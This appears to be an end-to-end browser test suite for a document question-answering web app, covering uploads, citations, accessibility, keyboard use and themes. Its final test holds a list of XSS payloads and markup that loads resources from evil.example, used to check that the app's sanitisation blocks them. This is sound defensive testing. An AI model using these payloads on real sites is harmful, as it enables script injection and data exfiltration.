"""The page in a real browser: every path that a person takes, without a mouse, on a phone, dark."""

from __future__ import annotations

import io
import json
import re
import shutil
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from axe_playwright_python.sync_playwright import Axe
from chat_server import Messages, chat_server
from PIL import Image
from playwright.sync_api import Browser, Page, expect, sync_playwright
from reportlab.pdfgen.canvas import Canvas
from served import collections, serving

from rag_app import RagApp

CHROMIUM = shutil.which("chromium")
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="needs chromium: apt-get install chromium"),
]

LAST = "The warranty of the Aurora lamp lasts"
AURORA = "How long does the warranty of the Aurora lamp last?"
BOREAL = "How is the glass of the Boreal lamp cleaned?"
SUBLET = "Who may sublet the bakery?"
WRITTEN = "It lasts **24 months** [2]. Lamps are blue."
DOCUMENTS = {
    "warranty-2023.md": f"---\ntitle: Warranty 2023\ndate: 2023-02-01\n---\n# Warranty\n\n"
    f"{LAST} 12 months.\n\nRepairs are free of charge in that time.\n",
    "warranty-2025.md": f"---\ntitle: Warranty 2025\ndate: 2025-05-01\n---\n# Warranty\n\n"
    f"{LAST} 24 months.\n\n## How are claims made?\n\nClaims go to the service desk.\n",
    "ferias.md": "# Férias\n\nCada funcionário tem direito a trinta dias de férias por ano.\n",
    "prices.csv": "Product,Price,Stock\nAurora lamp,89.90,12\nBoreal lamp,129.50,4\n",
    "lease-quay-4.txt": "Lease of 4 Quay Street: Marlowe Estates to Brindle Bakery\n\n"
    "Signed on 3 May 2024 by Ada Marlowe and Tom Brindle.\n\n"
    "1. Rent\n\nThe Tenant pays a rent of GBP 1,150 a month.\n\n"
    "2. Notice\n\nA party may end the lease with 60 days' notice.\n",
    "lease-quay-9.txt": "Lease of 9 Quay Street: Marlowe Estates to Corbel Joiners\n\n"
    "Signed on 7 June 2024 by Ada Marlowe and Una Corbel.\n\n"
    "1. Rent\n\nThe Tenant pays a rent of GBP 2,300 a month.\n\n"
    "2. Notice\n\nA party may end the lease with 90 days' notice.\n",
}


@dataclass
class Watched:
    """What a page did that it must not do."""

    elsewhere: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)


Open = Callable[..., Page]


def manual() -> bytes:
    """Return a PDF whose second page says how glass is cleaned."""
    file = io.BytesIO()
    canvas = Canvas(file)
    pages = (
        ("Manual of the Boreal lamp", "This manual describes the lamp."),
        ("Care", "Clean the glass of the Boreal lamp with warm water every week."),
    )
    for title, text in pages:
        canvas.setFont("Helvetica", 18)
        canvas.drawString(72, 760, title)
        canvas.setFont("Helvetica", 11)
        canvas.drawString(72, 720, text)
        canvas.showPage()
    canvas.save()
    return file.getvalue()


STOPPED = threading.Event()


def write(messages: Messages) -> Iterator[str]:
    if "slowly" in messages[-1]["content"]:
        yield from endless()
    yield "<think>The passages differ.</think>"
    yield WRITTEN


def endless() -> Iterator[str]:
    """Write until the reader leaves."""
    try:
        while True:
            time.sleep(0.01)
            yield "and so on "
    finally:
        STOPPED.set()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Address of a server over documents that agree, disagree and come near."""
    root = tmp_path_factory.mktemp("site")
    (root / "docs").mkdir()
    for name, text in DOCUMENTS.items():
        (root / "docs" / name).write_text(text, "utf-8")
    (root / "docs" / "manual.pdf").write_bytes(manual())
    (root / "docs" / "broken.docx").write_bytes(b"not a document")
    RagApp(documents=root / "docs", index=root / "index").index()
    with chat_server(write) as model, pytest.MonkeyPatch.context() as patch:
        for name in ("OPENAI_API_KEY", "AZURE_OPENAI_API_KEY", "OPENAI_API_VERSION"):
            patch.setenv(name, "x")
        patch.setenv("AZURE_OPENAI_ENDPOINT", "https://azure.example")
        served = collections(root, "openai:m", "azure_openai:m", llm_base_url=model)
        with serving(served) as url:
            yield url


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield launched
        launched.close()


@pytest.fixture
def watched() -> Watched:
    return Watched()


@pytest.fixture
def open_page(browser: Browser, watched: Watched) -> Iterator[Open]:
    """Open an address in a new window; at the end, nothing may have gone wrong in it."""
    contexts = []

    def opened(url: str, **options: object) -> Page:
        context = browser.new_context(**{"locale": "en-GB", **options})  # type: ignore[arg-type]
        contexts.append(context)
        page = context.new_page()
        page.set_default_timeout(20_000)
        watch(page, watched, urlsplit(url).netloc)
        page.goto(url)
        return page

    yield opened
    for context in contexts:
        context.close()
    assert watched == Watched()


def watch(page: Page, watched: Watched, host: str) -> None:
    def requested(url: str) -> None:
        if urlsplit(url).netloc != host and not url.startswith("data:"):
            watched.elsewhere.append(url)

    page.on("request", lambda request: requested(request.url))
    page.on("pageerror", lambda error: watched.errors.append(str(error)))
    page.on(
        "console",
        lambda message: watched.errors.append(message.text) if message.type == "error" else None,
    )

    def dismissed(dialog: object) -> None:
        watched.dialogs.append(dialog.message)  # type: ignore[attr-defined]
        dialog.dismiss()  # type: ignore[attr-defined]

    page.on("dialog", dismissed)


def ask(page: Page, question: str, turn: int = 1) -> None:
    page.get_by_role("textbox", name="Question").fill(question)
    page.keyboard.press("Enter")
    page.wait_for_selector(f"#turn-{turn}")


def assert_accessible(page: Page) -> None:
    found = Axe().run(page).response["violations"]
    bad = [
        (one["id"], [node["html"][:120] for node in one["nodes"]])
        for one in found
        if one["impact"] in ("serious", "critical")
    ]
    assert bad == []


def assert_fits(page: Page) -> None:
    assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0


def test_documents_are_uploaded_indexed_asked_and_deleted(
    open_page: Open, tmp_path: Path, watched: Watched
) -> None:
    (tmp_path / "docs").mkdir()
    with serving(collections(tmp_path)) as url:
        page = open_page(url)
        expect(page.get_by_role("heading", level=1)).to_have_text("Nothing to ask yet")
        chosen = {"name": "prices.csv", "mimeType": "text/csv"}
        page.locator("input[type=file]").set_input_files(
            [{**chosen, "buffer": DOCUMENTS["prices.csv"].encode()}]  # type: ignore[list-item]
        )
        page.get_by_role("heading", name="Ask your documents").wait_for()
        page.get_by_role("link", name="Documents", exact=True).click()
        drop(page, "warranty-2025.md", DOCUMENTS["warranty-2025.md"])
        page.get_by_role("row", name="warranty-2025.md").wait_for()
        assert page.locator("tbody th").all_inner_texts() == [
            "prices.csv",
            "warranty-2025.md\nWarranty 2025",
        ]
        drop(page, "prices.csv", "Product,Price\nAurora lamp,99.90\n")
        page.get_by_role("dialog").get_by_role("button", name="Replace").click()
        page.wait_for_event("load")
        page.goto(url)
        ask(page, "How much is the Aurora lamp?")
        expect(page.locator("#turn-1 .answer")).to_contain_text("99.90")
        page.get_by_role("link", name="Documents", exact=True).click()
        page.get_by_role("button", name="Delete: prices.csv").click()
        expect(page.get_by_role("dialog")).to_contain_text("Delete “prices.csv”")
        page.keyboard.press("Escape")
        page.get_by_role("button", name="Delete: prices.csv").click()
        page.get_by_role("dialog").get_by_role("button", name="Delete").click()
        expect(page.locator("tbody tr")).to_have_count(1)
        assert [one.name for one in (tmp_path / "docs").iterdir()] == ["warranty-2025.md"]
        watched.errors[:] = [one for one in watched.errors if "409 (Conflict)" not in one]


def drop(page: Page, name: str, text: str) -> None:
    dropped = page.evaluate_handle(
        "([name, text]) => { const data = new DataTransfer();"
        " data.items.add(new File([text], name)); return data; }",
        [name, text],
    )
    page.dispatch_event("#upload", "drop", {"dataTransfer": dropped})


def test_an_answer_cites_and_a_follow_up_continues(site: str, open_page: Open) -> None:
    page = open_page(site)
    ask(page, BOREAL)
    expect(page.locator("#turn-1 blockquote")).to_have_text(
        "Clean the glass of the Boreal lamp with warm water every week."
    )
    expect(page.locator("#turn-1 .place")).to_contain_text("manual.pdf")
    assert page.locator("#turn-1 .answer .cite").get_attribute("href") == "#t1-c1"
    expect(page.get_by_role("status")).to_contain_text("Clean the glass")
    ask(page, "When?", turn=2)
    expect(page.locator("#turn-2 .rewritten")).to_contain_text("Boreal")
    assert page.locator(".conversations .item[aria-current]").inner_text() == BOREAL
    page.reload()
    expect(page.locator(".turn")).to_have_count(2)


def test_a_browser_in_portuguese_is_answered_in_portuguese(site: str, open_page: Open) -> None:
    page = open_page(site, locale="pt-BR")
    expect(page.get_by_role("heading", level=1)).to_have_text("Pergunte aos seus documentos")
    page.get_by_role("textbox", name="Pergunta").fill("Quantos dias de férias por ano?")
    page.get_by_role("button", name="Perguntar").click()
    expect(page.locator("#turn-1 .answer")).to_contain_text("trinta dias de férias")
    expect(page.locator("#turn-1 .place")).to_have_text("ferias.md · linha 3 português")


def test_a_citation_opens_its_page_with_the_quote_highlighted(site: str, open_page: Open) -> None:
    page = open_page(site)
    ask(page, BOREAL)
    page.locator("#turn-1 .place a").click()
    sheet = page.locator("img.sheet")
    expect(sheet).to_have_attribute("alt", "Page 2 of manual.pdf, with the quote highlighted")
    expect(page.locator(".text mark")).to_have_text(
        "Clean the glass of the Boreal lamp with warm water every week."
    )
    sheet.evaluate("picture => picture.decode()")
    box, height, width = sheet.bounding_box(), 841.89, 595.28
    assert box is not None
    assert box["height"] / box["width"] == pytest.approx(height / width, rel=0.01)
    shown = Image.open(io.BytesIO(sheet.screenshot())).convert("RGB")
    at = shown.height / height

    def colours(left: float, right: float, low: float, high: float) -> set[tuple[int, ...]]:
        area = (left * at, (height - high) * at, right * at, (height - low) * at)
        counted = shown.crop(tuple(map(round, area))).getcolors(1 << 20) or []
        return {colour for count, colour in counted if count > 20}  # type: ignore[misc]

    assert any(min(one) < 200 < max(one) for one in colours(80, 360, 718, 730))
    assert colours(80, 360, 690, 710) == {(255, 255, 255)}
    page.get_by_role("link", name="Previous page").click()
    expect(sheet).to_have_attribute("alt", "Page 1 of manual.pdf")
    page.get_by_role("link", name="To the quote").click()
    expect(page.get_by_text("Page 2 / 2")).to_be_visible()


def test_a_row_and_a_line_are_shown_with_what_is_around_them(site: str, open_page: Open) -> None:
    page = open_page(site)
    start = DOCUMENTS["warranty-2025.md"].index(LAST)
    page.goto(f"{site}/source?source=warranty-2025.md&start={start}&end={start + len(LAST)}")
    expect(page.locator(".lines mark")).to_have_text(LAST)
    ask_again = page.goto(f"{site}/search?q=Boreal+lamp+price")
    assert ask_again is not None
    page.locator(".passage a", has_text="prices.csv").first.click()
    expect(page.locator("thead th")).to_have_text(["Row", "Product", "Price", "Stock"])


def test_a_disagreement_is_shown_side_by_side(site: str, open_page: Open) -> None:
    page = open_page(site)
    ask(page, AURORA)
    sides = page.locator(".disagree figure")
    expect(sides).to_have_count(2)
    assert sorted(sides.locator("blockquote").all_inner_texts()) == [
        f"{LAST} 12 months.",
        f"{LAST} 24 months.",
    ]
    assert sorted(sides.locator(".date").all_inner_texts()) == [
        "dated 2023-02-01",
        "dated 2025-05-01",
    ]
    first, second = (sides.nth(n).bounding_box() for n in (0, 1))
    assert first is not None
    assert second is not None
    assert first["y"] == second["y"]
    assert first["x"] + first["width"] <= second["x"]


def test_without_a_sure_answer_the_nearest_passages_are_shown(site: str, open_page: Open) -> None:
    page = open_page(site)
    ask(page, SUBLET)
    expect(page.locator(".answer")).to_have_text("I found no sure answer.")
    expect(page.get_by_role("heading", name="Nearest passages")).to_be_visible()
    expect(page.locator(".citation .file").first).to_have_text("lease-quay-4.txt")
    assert page.locator(".cite").count() == 0


def test_the_model_says_what_leaves_the_machine(site: str, open_page: Open) -> None:
    page = open_page(site)
    leaves = page.locator("#leaves")
    expect(leaves).to_have_text("Nothing leaves this machine")
    page.get_by_text("Options").click()
    page.get_by_label("Model").select_option("azure_openai:m")
    expect(leaves).to_have_text("Your question and the passages found are sent to azure.example")
    page.get_by_label("Model").select_option("openai:m")
    expect(leaves).to_have_text("Nothing leaves this machine")
    page.keyboard.press("Escape")
    ask(page, AURORA)
    expect(page.locator(".answer strong")).to_have_text("24 months")
    expect(page.locator(".answer mark")).to_have_text("Lamps are blue.")
    expect(page.locator(".unsupported li")).to_have_text(["Lamps are blue."])
    expect(page.locator(".thinking p")).to_have_text("The passages differ.")
    expect(page.locator(".by")).to_have_text("Answered by openai:m")


def test_a_stopped_answer_ends_at_the_model(site: str, open_page: Open) -> None:
    page = open_page(site)
    page.get_by_text("Options").click()
    page.get_by_label("Model").select_option("openai:m")
    page.keyboard.press("Escape")
    page.get_by_role("textbox", name="Question").fill(f"{AURORA} Tell it slowly.")
    page.keyboard.press("Enter")
    page.locator("#live .answer", has_text="and so on").wait_for()
    assert not STOPPED.is_set()
    page.get_by_role("button", name="Stop").click()
    assert STOPPED.wait(20)
    expect(page.locator("#live .working")).to_have_text("Stopped.")
    expect(page.locator("#question")).to_have_value(f"{AURORA} Tell it slowly.")
    ask(page, BOREAL)
    expect(page.locator(".turn")).to_have_count(1)


def test_a_filter_limits_the_documents(site: str, open_page: Open) -> None:
    page = open_page(site)
    page.get_by_text("Options").click()
    page.get_by_label("File or folder").fill("warranty-2023.md")
    page.keyboard.press("Escape")
    ask(page, AURORA)
    assert set(page.locator(".citation .file").all_inner_texts()) == {"warranty-2023.md"}


def test_a_conversation_is_renamed_exported_judged_and_deleted(site: str, open_page: Open) -> None:
    page = open_page(site)
    ask(page, BOREAL)
    page.get_by_label("Note").fill("Right page")
    page.get_by_role("button", name="Helpful", exact=True).click()
    expect(page.locator(".feedback")).to_have_text("Thank you, that is kept.")
    manage = page.locator("main .menu summary")
    manage.click()
    page.get_by_label("Title").fill("Glass <b>care</b>")
    page.get_by_role("button", name="Rename").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Glass <b>care</b>")
    manage.click()
    with page.expect_download() as markdown:
        page.get_by_role("link", name="Export as Markdown").click()
    assert "warm water every week" in markdown.value.path().read_text("utf-8")
    with page.expect_download() as exported:
        page.get_by_role("link", name="Export as JSON").click()
    record = json.loads(exported.value.path().read_text("utf-8"))
    assert record["turns"][0]["answer"]["citations"][0]["source"] == "manual.pdf"
    page.get_by_role("button", name="Delete this conversation").click()
    page.get_by_role("dialog").get_by_role("button", name="Delete this conversation").click()
    page.wait_for_url(f"{site}/?collection=documents")
    expect(page.locator(".conversations")).not_to_contain_text("Glass")


def test_a_keyboard_is_enough(site: str, open_page: Open) -> None:
    page = open_page(site)
    page.keyboard.type(BOREAL)
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("Please.")
    assert page.locator("#question").input_value() == f"{BOREAL}\nPlease."
    page.locator("#question").fill(BOREAL)
    page.keyboard.press("Enter")
    page.wait_for_selector("#turn-1")
    expect(page.locator("#question")).to_be_focused()
    tab_to(page, ".place a", back=True)
    page.keyboard.press("Enter")
    page.wait_for_url("**/source?**")
    page.keyboard.press("Tab")
    expect(page.locator(".skip")).to_be_focused()
    page.keyboard.press("Enter")
    tab_to(page, "a[rel=prev]")


def tab_to(page: Page, selector: str, back: bool = False) -> None:
    for _ in range(40):
        page.keyboard.press("Shift+Tab" if back else "Tab")
        if page.evaluate("one => document.activeElement.matches(one)", selector):
            style = "getComputedStyle(document.activeElement).outlineStyle"
            assert page.evaluate(style) == "solid"
            return
    raise AssertionError(f"no Tab leads to {selector}")


@pytest.mark.parametrize(("scheme", "width"), [("light", 1280), ("dark", 360)])
def test_every_page_is_accessible_and_fits(
    site: str, open_page: Open, scheme: str, width: int
) -> None:
    page = open_page(site, color_scheme=scheme, viewport={"width": width, "height": 740})
    dark = page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(23, 25, 26)"
    assert dark == (scheme == "dark")
    for path in ("/documents", "/conversations", "/search?q=lamp"):
        page.goto(site + path, wait_until="load")
        assert_accessible(page)
        assert_fits(page)
    page.goto(site)
    assert_accessible(page)
    assert_fits(page)
    ask(page, AURORA)
    assert_accessible(page)
    assert_fits(page)
    page.locator(".place a").first.click()
    page.wait_for_url("**/source?**")
    assert_accessible(page)
    assert_fits(page)


def test_a_chosen_theme_is_kept(site: str, open_page: Open) -> None:
    page = open_page(site)
    page.get_by_role("button", name="Light or dark").click()
    page.reload()
    colour = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert colour == "rgb(23, 25, 26)"


RUN = "window.__pwned=1"
VECTORS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video src=x onerror={RUN}></video>",
    f"<body onload={RUN}>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"[x](javascript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f'"><script>{RUN}</script>',
    f"'}}\"><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f'x" autofocus onfocus="{RUN}',
    f"{{{{ {RUN} }}}}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\u202e<script>{RUN}</script>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<img src=https://evil.example/a.png>",
    "![x](https://evil.example/a.png)",
    "![x](//evil.example/a.png?q=secret)",
    "[![x](https://evil.example/a.png)](https://evil.example/)",
    "![x][1]\n\n[1]: https://evil.example/a.png",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/a.css'</style>",
    "<p style='background:url(https://evil.example/a)'>x</p>",
    "<link rel=prefetch href=https://evil.example/a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<object data=https://evil.example/a></object>",
    "<form action=https://evil.example/><button autofocus>x</button></form>",
    "<picture><source srcset=https://evil.example/a><img></picture>",
)
WRAPPERS = ("{}", "**{}**", "| a |\n|---|\n| {} |", "> {}", "text {} text [1]")
ATTACKS = tuple(wrapper.format(one) for one in VECTORS for wrapper in WRAPPERS)


def test_no_payload_runs_or_leaves(
    tmp_path: Path, open_page: Open, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "x")
    assert len(ATTACKS) == 200
    groups = ["\n\n".join(ATTACKS[n : n + 40]) for n in range(0, 200, 40)]
    docs = tmp_path / "docs"
    docs.mkdir()
    for n, group in enumerate(groups):
        vector = VECTORS[n].replace("/", "\u2215")
        title = VECTORS[n + 5].replace("'", "''")
        (docs / f"{vector}.md").write_text(f"---\ntitle: '{title}'\n---\n# {group}", "utf-8")
    (docs / "attack.csv").write_text("\n".join(f'"{one}",x' for one in VECTORS[:5]), "utf-8")
    with chat_server(lambda messages: [answer_of(messages, groups)]) as model:
        served = collections(tmp_path, llm="openai:m", llm_base_url=model)
        served["documents"].app.index()
        with serving(served) as url, httpx.Client(base_url=url, timeout=60) as http:
            kept = [attack(http, n) for n in range(len(groups))]
            page = open_page(f"{url}/documents")
            links = page.locator("tbody th a").evaluate_all("all => all.map(one => one.href)")
            assert len(links) == 6
            paths = [f"/conversations/{id}" for id in kept]
            paths += [
                "/",
                "/conversations",
                "/documents?find=%22%3E%3Cscript%3E",
                "/search?q=x+script",
            ]
            for address in [*(url + path for path in paths), *links]:
                page.goto(address)
                assert page.evaluate("window.__pwned") is None
            page.goto(url)
            ask(page, f"{ATTACKS[0]} group 3")
            page.locator(".answer a.external").first.wait_for()
            assert page.evaluate("window.__pwned") is None
            assert page.locator("#turns img, #turns iframe, #turns script").count() == 0


def attack(http: httpx.Client, n: int) -> str:
    """Ask a question that is a payload, and name its conversation with one."""
    id = str(http.post("/api/conversations").json()["id"])
    asked = {"question": f"{ATTACKS[n]} group {n}", "conversation": id}
    assert http.post("/api/ask", json=asked).status_code == 200
    named = http.patch(f"/api/conversations/{id}", json={"title": VECTORS[n + 20][:200]})
    assert named.status_code == 200
    return id


def answer_of(messages: Messages, groups: list[str]) -> str:
    named = re.findall(r"group (\d)", messages[-1]["content"])
    return groups[int(named[-1])] if named else groups[0]
